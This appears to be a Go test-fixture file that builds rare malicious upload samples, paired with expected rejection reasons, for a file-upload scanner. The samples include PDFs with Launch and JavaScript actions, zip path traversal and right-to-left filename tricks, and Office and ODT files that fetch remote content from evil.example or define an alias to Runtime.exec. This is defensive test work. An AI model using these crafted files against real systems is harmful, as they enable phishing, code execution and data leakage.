package scantest

import (
	"bytes"
	"strings"

	"mydata.nat.gov.tw/portal/pkg/upload"
)

// rarities are attacks of one kind each that no list beside this one has: seldom
// used corners of the formats, and archives that lie about what is in them.
func rarities() []File {
	var list []File
	for _, group := range []map[string]rarity{rarePDFs(), rareArchives(), rareOffice()} {
		for _, name := range sorted(group) {
			list = append(list, File{Name: "rare: " + name, Content: group[name].content, Reason: group[name].reason})
		}
	}
	return list
}

type rarity struct {
	content []byte
	reason  upload.Reason
}

func rarePDFs() map[string]rarity {
	one := func(entries string) []byte { return page(Object("<< " + entries + " >>")) }
	return map[string]rarity{
		"PDF: a sound to play":                  {one("/A << /S /Sound /Sound 9 0 R >>"), upload.Scripts},
		"PDF: an old film":                      {one("/A << /S /Movie /T (x) >>"), upload.Scripts},
		"PDF: a view in 3D":                     {one("/A << /S /GoTo3DView /TA 9 0 R >>"), upload.Scripts},
		"PDF: rich media that runs":             {one("/A << /S /RichMediaExecute /TA 9 0 R >>"), upload.Scripts},
		"PDF: a portfolio":                      {one("/Type /Catalog /Collection << /Type /Collection >>"), upload.Embedded},
		"PDF: associated files":                 {one("/AF [9 0 R] /Type /Filespec /EF << /UF 9 0 R >>"), upload.Embedded},
		"PDF: a page that acts when it opens":   {PDF(catalogue, pages, "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /AA << /O << /S /JavaScript /JS (x) >> >> >>", packed("", nil)), upload.Scripts},
		"PDF: a field that computes":            {one("/FT /Tx /AA << /C << /S /JavaScript /JS 9 0 R >> >>"), upload.Scripts},
		"PDF: a chain of acts":                  {one("/A << /S /GoTo /D [3 0 R /Fit] /Next << /S /Launch /F (a.exe) >> >>"), upload.Scripts},
		"PDF: an outline that starts a program": {one("/Title (x) /A << /S /Launch /F << /Type /Filespec /F (calc.exe) >> >>"), upload.Scripts},
		"PDF: a program for a Mac":              {one("/A << /S /Launch /Mac << /F (x) >> >>"), upload.Scripts},
		"PDF: encrypted by a public key":        {bytes.Replace(page(), []byte("/Root"), []byte("/Encrypt << /Filter /Adobe.PubSec /V 5 >> /Root"), 1), upload.Encrypted},
		"PDF: a name with its hash spelled":     {one("/A << /S /Java#53cript /#4aS (x) >>"), upload.Scripts},
		"PDF: a form of XFA spelled in code":    {one("/AcroForm << /#58FA [(a) 9 0 R] >>"), upload.Scripts},
	}
}

func rareArchives() map[string]rarity {
	odt := offices()[3].parts
	plain := Zip(odt...)
	inZip := func(name, text string) []byte { return Zip(Part{Name: name, Text: text}) }
	return map[string]rarity{
		"zip: entries that overlap":              {overlapping(), upload.Polyglot},
		"zip: a size that lies":                  {poke(Zip(Part{Name: "a.txt", Text: "text", Stored: true}), 22, 9), upload.Malformed},
		"zip: a way out of the folder":           {inZip("a/../../b.txt", "x"), upload.Malformed},
		"zip: a name turned from right to left":  {inZip("invoice\u202etxt.exe", "x"), upload.Malformed},
		"zip: a name that is turned, not an end": {inZip("a\u202egnp.txt", "x"), upload.Malformed},
		"zip: a script of Windows":               {inZip("a.vbs", "x"), upload.Embedded},
		"zip: a script of PowerShell":            {inZip("a.ps1", "x"), upload.Embedded},
		"zip: a screen saver":                    {inZip("a.scr", "x"), upload.Embedded},
		"zip: a shortcut to the web":             {inZip("a.url", "[InternetShortcut]\nURL=file://evil.example/a"), upload.Embedded},
		"zip: a page that is an application":     {inZip("a.hta", "<script>alert(1)</script>"), upload.Embedded},
		"zip: a disk":                            {inZip("a.iso", strings.Repeat("\x00", 64)), upload.Embedded},
		"zip: a program of Java":                 {inZip("a.jar", "x"), upload.Embedded},
		"zip: a class of Java":                   {inZip("a.txt", "\xca\xfe\xba\xbe\x00\x00\x00\x34"), upload.Embedded},
		"zip: a program of a Mac":                {inZip("a.txt", "\xcf\xfa\xed\xfe\x07\x00\x00\x01"), upload.Embedded},
		"zip: a package to install":              {inZip("a.msi", "\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"), upload.Embedded},
		"zip: an archive named as text":          {inZip("a.txt", "7z\xbc\xaf\x27\x1c"), upload.Embedded},
		"odt: a directory that begins elsewhere": {poke(plain, len(plain)-6, 0), upload.Polyglot},
		"odt: a picture before it":               {append(PNG(), plain...), upload.Polyglot},
		"odt: a PDF before it":                   {append(page(), plain...), upload.Polyglot},
		"odt: a photograph before it":            {append(JPEG(), plain...), upload.Polyglot},
	}
}

// overlapping is an archive whose two entries are the same data, as those that
// grow without end are made.
func overlapping() []byte {
	twice := Zip(Part{Name: "a", Text: strings.Repeat("x", 4000)}, Part{Name: "b", Text: strings.Repeat("x", 4000)})
	second := directory(twice) + 46 + len("a")
	return poke16(twice, second+42, 0)
}

func rareOffice() map[string]rarity {
	w, s, odt := word(), sheet(), offices()[3]
	related := func(o office, list string) []byte {
		return Zip(with(o.parts, Part{Name: o.relsOf(), Text: rels(list)})...)
	}
	inText := func(more string) []byte {
		return Zip(with(odt.parts, Part{Name: odt.body, Text: strings.Replace(odt.parts[3].Text, "<office:body>", "<office:body>"+more, 1)})...)
	}
	return map[string]rarity{
		"docx: a program as an object":      {Zip(with(w.parts, Part{Name: "word/embeddings/oleObject1.bin", Text: "\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1Package"})...), upload.Embedded},
		"docx: a font that is a program":    {Zip(with(w.parts, Part{Name: "word/fonts/font1.odttf", Text: "MZ\x90\x00"})...), upload.Embedded},
		"docx: settings from a server":      {related(w, outward("settings", "https://evil.example/settings.xml")), upload.External},
		"docx: a sub-document from a share": {related(w, outward("subDocument", `\\evil.example\a.docx`)), upload.External},
		"docx: mail merge from a server":    {related(w, outward("mailMergeSource", "https://evil.example/a.csv")), upload.External},
		"docx: a film from a server":        {related(w, outward("video", "https://evil.example/a.mp4")), upload.External},
		"docx: a link that searches":        {related(w, outward("hyperlink", "search-ms:query=x&amp;crumb=location:\\\\evil.example")), upload.Scripts},
		"docx: a link to Office itself":     {related(w, outward("hyperlink", "ms-word:ofe|u|https://evil.example/a.docm")), upload.External},
		"docx: the relations have a DTD":    {Zip(with(w.parts, Part{Name: "_rels/.rels", Text: `<!DOCTYPE a [<!ENTITY % x SYSTEM "https://evil.example/x.dtd">%x;]><a/>`})...), upload.Malformed},
		"xlsx: macros of Excel 4 by a name": {Zip(with(s.parts, Part{Name: "xl/macrosheets/intlsheet1.xml", Text: "<a/>"})...), upload.Macros},
		"xlsx: a query of Power Query":      {Zip(with(s.parts, Part{Name: "xl/queryTables/queryTable1.xml", Text: `<queryTable ` + sheetNS + `/>`}, Part{Name: "xl/connections.xml", Text: `<connections ` + sheetNS + `><connection><dbPr connection="Provider=Microsoft.Mashup.OleDb.1"/></connection></connections>`})...), upload.External},
		"odt: a section from a server":      {inText(`<text:section><text:section-source xlink:href="https://evil.example/a.odt"/></text:section>`), upload.External},
		"odt: a form that is sent":          {inText(`<form:form xmlns:form="urn:oasis:names:tc:opendocument:xmlns:form:1.0" xlink:href="https://evil.example/"/>`), upload.External},
		"odt: a picture from a share":       {inText(`<draw:image xlink:href="file://evil.example/share/a.png"/>`), upload.External},
		"odt: an object of OLE":             {Zip(with(odt.parts, Part{Name: "Object 1", Text: "\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"})...), upload.Embedded},
		"odt: a database within":            {Zip(with(odt.parts, Part{Name: "database/script", Text: "CREATE ALIAS x FOR 'java.lang.Runtime.exec'"})...), upload.Macros},
	}
}
